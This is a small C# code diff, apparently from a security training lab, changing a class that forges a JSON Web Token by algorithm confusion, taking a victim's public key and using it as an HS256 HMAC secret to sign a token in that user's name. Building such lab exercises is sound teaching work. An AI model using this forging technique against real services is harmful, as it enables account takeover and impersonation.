@@ -24,7 +24,7 @@ public sealed class AlgorithmConfusion()
 
     private protected override Task<string> ForgeAsync(LessonLab target, CancellationToken cancellationToken)
     {
-        using var key = PublicKey(RegisteredKey(target));
+        using var key = target.PublicKeyOf(Victim);
         var secret = new ClientSecret(key.ExportSubjectPublicKeyInfoPem());
         var signer = new AssertionSigner.Hmac(secret, SignatureAlgorithms.HS256);
         return Task.FromResult(TokenRequests.Draft(target, Victim, signer).Build().Compact);
